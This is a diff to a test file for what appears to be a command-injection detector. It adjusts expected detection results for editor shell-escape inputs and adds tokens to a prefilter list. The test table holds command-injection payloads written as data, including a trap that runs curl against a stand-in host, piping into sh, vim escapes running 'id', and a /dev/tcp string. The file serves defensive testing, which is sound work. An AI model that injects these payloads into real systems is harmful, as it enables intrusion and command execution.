@@ -159,8 +159,9 @@ const ATTACKS: Row[] = [
   { input: "; trap 'curl -s evil.example' INT", expect: true, note: 'trap running a command' },
   { input: '| sh # trailing comment', expect: true, note: 'a comment ends the command' },
   { input: ';column passwd', expect: true, note: 'account file named without its directory' },
-  { input: '; vim f +\\!id', expect: false, note: 'editor shell escape: PL2 like CRS' },
-  { input: '; vim f +\\!id', expect: true, paranoia: 2 },
+  { input: '; vim f +\\!id', expect: true, note: 'editor started with an ex command running a shell' },
+  { input: 'vim f \\!id', expect: false, note: 'editor shell escape at the value start: PL2' },
+  { input: 'vim f \\!id', expect: true, paranoia: 2 },
   { input: 'lastlog', expect: false, note: 'a lone tool name: PL3' },
   { input: 'lastlog', expect: true, paranoia: 3 },
   { input: '127.0.0.1\nid', expect: true, note: 'a probe command alone on an injected line' },
@@ -485,6 +486,7 @@ describe('cmdi prefilter', () => {
       ...['x', 'the', 'name', 'cat', 'whoami', 'ping', 'sleep', 'time', 'date', 'sudo', 'for', 'if', 'ls'],
       ...['nc', 'bash', 'python3', 'php8', 'cmd.exe', 'true', 'id', 'alias', 'a=nc', '1', '10.0.0.1'],
       ...['https://x.y/p?a=1', 'a/b', '/dev/tcp/1.2.3.4/80', 'x/bin/ls', 'ref=curl', 'a/whoami', 'q?x=id'],
+      ...['rc', 'fish', 'x.sh', '!!', '!1', '!-1', '--version', '-o', 'vim', '+!id', 'find', '-exec', 'env'],
     ];
     const puncts = [
       ' ',
